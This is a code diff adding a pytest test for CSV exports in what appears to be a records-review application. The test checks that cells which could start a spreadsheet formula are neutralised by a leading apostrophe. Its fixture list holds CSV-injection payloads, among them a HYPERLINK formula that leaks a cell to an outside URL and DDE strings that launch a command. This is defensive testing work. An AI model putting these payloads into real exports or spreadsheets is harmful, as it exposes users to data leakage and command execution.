@@ -165,3 +165,40 @@ def test_the_korean_pdf_holds_the_hangul_names_with_every_font_embedded(app, rec
     fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, check=True, text=True).stdout  # noqa: S603, S607
     rows = fonts.splitlines()[2:]
     assert rows and all(row.split()[-5] == "yes" for row in rows), fonts
+
+
+#: What a spreadsheet would run (OWASP, CSV Injection), as a name or place could carry it.
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?leak="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_csv_cells_that_could_start_a_formula_are_inert_and_still_read(app, records, payload):
+    with app.app_context():
+        from reviewer.records.models import Person, PersonName
+
+        session = db.session()
+        session.get(Person, records.person_id).birth_place = payload
+        session.add(
+            PersonName(person_id=records.person_id, name=payload, style="other", kind="alias", quality="weak")
+        )
+        session.commit()
+    files = _files(app, "person", records.person_id, "sanctions", ("csv",))
+    for name in ("persons.csv", "organizations.csv", "facilities.csv", "acts.csv", "sources.csv"):
+        for row in csv.reader(io.StringIO(files[name].decode("utf-8"), newline="")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    persons = list(csv.DictReader(io.StringIO(files["persons.csv"].decode("utf-8"), newline="")))
+    target = next(row for row in persons if row["role"] == "target")
+    # Read back: one leading apostrophe is all that was added (docs/exports.md).
+    assert target["birth_place"] == "'" + payload
+    # Inside a several-valued cell it is not at the start, so it stays as it was (a "|" becomes "/").
+    assert target["weak_aliases"].split("|")[-1] == payload.replace("|", "/")
+    # Cells that cannot start a formula are untouched.
+    assert target["names_hangul"] == "리창대" and target["birth_date"] == "1961-04"
